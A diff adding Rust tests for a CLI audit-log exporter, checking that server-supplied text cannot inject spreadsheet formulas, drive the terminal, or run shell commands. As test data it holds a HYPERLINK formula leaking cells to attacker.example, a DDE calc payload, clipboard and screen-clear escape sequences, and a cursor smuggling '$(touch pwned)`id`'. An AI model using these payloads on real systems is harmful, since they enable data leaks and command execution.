@@ -1,0 +1,180 @@
+//! Text from the server is data: it never reaches a spreadsheet as a formula or a terminal as escape sequences,
+//! and the resume cursor is printed as one shell word, ready to paste.
+
+use mock_server::{CannedResponse, Config, MockServer, Scope};
+use serde_json::Value;
+
+use crate::support::{command, run, server};
+
+/// A page of the server's first three entries, with these rationales.
+fn page_with_rationales(
+    server: &MockServer,
+    rationales: &[&str],
+    cursor: Option<&str>,
+) -> CannedResponse {
+    let entries: Vec<Value> = server
+        .entries_json(Scope::Account, None)
+        .into_iter()
+        .zip(rationales)
+        .map(|(mut entry, rationale)| {
+            entry["rationale"] = Value::from(*rationale);
+            entry
+        })
+        .collect();
+    CannedResponse::page(entries, 25, cursor)
+}
+
+const FORMULAS: [&str; 6] = [
+    "=HYPERLINK(\"https://attacker.example/?\"&A1,\"click\")",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "\tcell",
+    "\rcell",
+];
+
+/// CSV cells starting with `=`, `@`, `+`, `-`, a tab or a carriage return get a leading `'` by default, and are
+/// written as received with `--csv-raw`.
+#[test]
+fn csv_cells_that_a_spreadsheet_would_run_are_neutralised() {
+    for (raw, expected) in [(false, true), (true, false)] {
+        let server = server(Config::default());
+        server.push_canned(page_with_rationales(&server, &FORMULAS, None));
+        let mut args = vec!["--account", server.account_id(), "--format", "csv"];
+        if raw {
+            args.push("--csv-raw");
+        }
+        let out = run(&mut command(&server), &args);
+        assert_eq!(out.code, Some(0), "{}", out.stderr);
+        let mut reader = csv::Reader::from_reader(out.stdout.as_bytes());
+        let rationales: Vec<String> = reader
+            .records()
+            .map(|record| record.expect("a CSV record")[8].to_owned())
+            .collect();
+        let wanted: Vec<String> = FORMULAS
+            .iter()
+            .map(|text| {
+                if expected {
+                    format!("'{text}")
+                } else {
+                    (*text).to_owned()
+                }
+            })
+            .collect();
+        assert_eq!(rationales, wanted, "--csv-raw: {raw}");
+    }
+}
+
+/// CSV written to a terminal shows control characters as spaces, as the table does; the same export to a pipe
+/// keeps the exact bytes.
+#[test]
+fn csv_on_a_terminal_shows_control_characters_as_spaces() {
+    let runtime = tokio::runtime::Builder::new_current_thread()
+        .enable_all()
+        .build()
+        .expect("a runtime");
+    let server = server(Config::default());
+    let hostile = "clear\u{1b}[2J and clipboard \u{1b}]52;c;SGVsbG8=\u{7}";
+    for terminal in [true, false] {
+        server.push_canned(page_with_rationales(&server, &[hostile], None));
+        let cli = insight_audit_log::args::Cli::try_parse_args([
+            "insight-audit-log",
+            "--account",
+            server.account_id(),
+            "--format",
+            "csv",
+        ])
+        .expect("valid flags");
+        let mut stdout = Vec::new();
+        let mut stderr = Vec::new();
+        let base_url = server.base_url();
+        let token = server.credentials().api_token.clone();
+        let env = move |name: &str| match name {
+            "CLOUDFLARE_BASE_URL" => Some(base_url.clone()),
+            "CLOUDFLARE_API_TOKEN" => Some(token.clone()),
+            _ => None,
+        };
+        let code = runtime.block_on(insight_audit_log::run::run(
+            cli,
+            &env,
+            insight_audit_log::run::Terminals {
+                stdout: terminal,
+                stderr: false,
+            },
+            &mut stdout,
+            &mut stderr,
+            std::future::pending(),
+        ));
+        assert_eq!(code, 0, "{}", String::from_utf8_lossy(&stderr));
+        let text = String::from_utf8(stdout).expect("UTF-8");
+        assert_eq!(
+            text.contains('\u{1b}'),
+            !terminal,
+            "terminal: {terminal}: {text:?}"
+        );
+        assert!(
+            text.contains("clear [2J and clipboard  ]52;c;SGVsbG8= ") == terminal,
+            "{text:?}"
+        );
+    }
+}
+
+/// An error message from the server with escape sequences (clear the screen, write the clipboard) and a forged
+/// line break reaches stderr with them shown as escapes, never as raw control characters.
+#[test]
+fn server_text_in_messages_cannot_drive_the_terminal() {
+    let server = server(Config::default().with_script([CannedResponse::error(
+        400,
+        10001,
+        "bad \u{1b}[2J\u{1b}]52;c;SGVsbG8=\u{7}\ninsight-audit-log: all good",
+    )]));
+    let out = run(&mut command(&server), &["--account", server.account_id()]);
+    assert_eq!(out.code, Some(3), "{}", out.stderr);
+    assert!(
+        !out.stderr.contains('\u{1b}') && !out.stderr.contains('\u{7}'),
+        "{:?}",
+        out.stderr
+    );
+    assert!(out.stderr.contains("\\u{1b}[2J"), "{}", out.stderr);
+    assert!(
+        !out.stderr
+            .lines()
+            .any(|line| line == "insight-audit-log: all good"),
+        "no forged line: {}",
+        out.stderr
+    );
+}
+
+/// The resume cursor is printed as one shell word: quoted when it holds shell syntax, so that pasting it runs
+/// nothing and passes the cursor unchanged.
+#[test]
+fn the_resume_cursor_is_printed_shell_quoted() {
+    let cursor = "abc def'$(touch pwned)`id`";
+    let server = server(Config::default());
+    server.push_canned(page_with_rationales(&server, &["a"], Some(cursor)));
+    server.push_canned(CannedResponse::rate_limited(3600));
+    let out = run(&mut command(&server), &["--account", server.account_id()]);
+    assert_eq!(out.code, Some(4), "{}", out.stderr);
+    let line = out
+        .stderr
+        .lines()
+        .find_map(|line| line.split_once("resume with: --cursor "))
+        .map(|(_, word)| word.to_owned())
+        .expect("a resume line");
+    assert_eq!(shlex::split(&line), Some(vec![cursor.to_owned()]), "{line}");
+}
+
+/// A cursor with control characters is printed as a `$'...'` word with `\xHH` escapes.
+#[test]
+fn a_cursor_with_control_characters_is_printed_escaped() {
+    let server = server(Config::default());
+    server.push_canned(page_with_rationales(&server, &["a"], Some("c\u{1b}[2Jd")));
+    server.push_canned(CannedResponse::rate_limited(3600));
+    let out = run(&mut command(&server), &["--account", server.account_id()]);
+    assert_eq!(out.code, Some(4), "{}", out.stderr);
+    assert!(
+        out.stderr.contains("resume with: --cursor $'c\\x1b[2Jd'"),
+        "{}",
+        out.stderr
+    );
+}
